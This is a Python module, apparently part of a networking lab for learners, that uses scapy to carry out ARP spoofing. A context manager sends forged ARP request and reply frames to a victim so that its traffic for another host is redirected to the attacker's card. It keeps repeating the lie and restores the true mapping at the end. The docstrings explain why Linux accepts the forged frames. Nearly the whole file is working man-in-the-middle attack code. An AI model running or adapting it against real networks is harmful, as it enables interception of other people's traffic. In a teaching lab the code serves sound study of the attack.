"""ARP spoofing: have somebody's frames for another host come to oneself.

Who wants to send something to an IP address asks everybody on the cable which card has it, and believes any answer
(RFC 826: there is nothing in it by which an answer could be checked). A switch then carries the frames to the card
that was named. So one lie brings them here, and a switch is no protection.
"""

from __future__ import annotations

import threading
import time
from types import TracebackType
from typing import Protocol

from scapy.layers.l2 import ARP, Ether
from scapy.packet import Packet

from ..network import Card

PATIENCE = 2.0
"""Seconds in which the victim has to answer."""


class Neighbour(Protocol):
    """Somebody on the same cable; a host of the lab is one."""

    @property
    def name(self) -> str: ...
    @property
    def ip(self) -> str: ...
    @property
    def mac(self) -> str: ...


class Spoof:
    """For as long as the block lasts ``victim`` sends here what is meant for ``instead_of``.

    Args:
        card: a card of the host that the frames are to come to. It is for this alone, and closed at the end.
        victim: who is lied to.
        instead_of: whose address the lie is about.
        every: seconds after which the lie is told again, since the truth may be heard in between.

    Raises:
        TimeoutError: the victim doesn't answer: its cable is out, or it's on another network.

    When the block begins, the victim has believed it; when it ends, the victim has heard the truth. Example::

        with Spoof(lab.mallory.card(), victim=lab.alice, instead_of=lab.mail):
            ...                              # alice's frames for mail come to mallory, through a switch, too
    """

    def __init__(self, card: Card, victim: Neighbour, instead_of: Neighbour, every: float = 0.5) -> None:
        self._card, self._victim, self._instead_of, self._every = card, victim, instead_of, every
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._repeat, daemon=True, name="spoof")

    def messages(self, mac: str | None = None) -> list[Packet]:
        """What the victim is told: that ``instead_of``'s address is at this card (None: the one that sends it).

        It says so twice. A *request* ("who has <victim>? Tell <instead_of>") is believed at once, because Linux, as
        RFC 826 wants it, notes the sender before it looks at what he asks. A *reply* to a question that nobody
        asked is ignored where nothing is known of that address, and for a second after the last change; but it
        passes for an answer when the victim checks whether what it knows still holds.
        """
        to, said = self._victim, self._instead_of
        return [
            Ether(dst=to.mac) / ARP(op=op, hwsrc=mac, psrc=said.ip, hwdst=to.mac, pdst=to.ip)
            for op in ("who-has", "is-at")
        ]

    def __enter__(self) -> Spoof:
        try:
            self._until_answered()
            self._thread.start()
        except BaseException:  # also the learner's stop button; the victim may have believed it already
            self._end()
            raise
        return self

    def __exit__(self, kind: type[BaseException] | None, error: BaseException | None, _: TracebackType | None) -> None:
        self._end()

    def _end(self) -> None:
        """Tell the truth and close the card, whatever comes in between."""
        self._stop.set()
        try:
            if self._thread.ident:
                self._thread.join()
        finally:
            try:
                self._tell(self._instead_of.mac)
            except OSError:
                pass  # the lab has ended, and nobody is left who believes anything
            finally:
                self._card.close()

    def _tell(self, mac: str | None = None) -> None:
        for message in self.messages(mac):
            self._card.send(message)

    def _until_answered(self) -> None:
        """Tell the lie until the victim answers the request in it: then it has noted who seemed to ask."""
        deadline = time.monotonic() + PATIENCE
        self._tell()
        again = time.monotonic() + self._every
        while time.monotonic() < deadline:
            frame = self._card.fetch() if self._card.wait(0.05) else None
            heard = Ether(frame[1]) if frame else None
            if heard and ARP in heard and heard[ARP].op == 2:
                answer = heard[ARP]
                if (answer.psrc, answer.hwsrc, answer.pdst) == (self._victim.ip, self._victim.mac, self._instead_of.ip):
                    return
            if time.monotonic() >= again:
                self._tell()
                again += self._every
        raise TimeoutError(f"{self._victim.name} doesn't answer ARP: is its cable out?")

    def _repeat(self) -> None:
        while not self._stop.wait(self._every):
            try:
                self._tell()
            except OSError:  # the lab has ended
                return
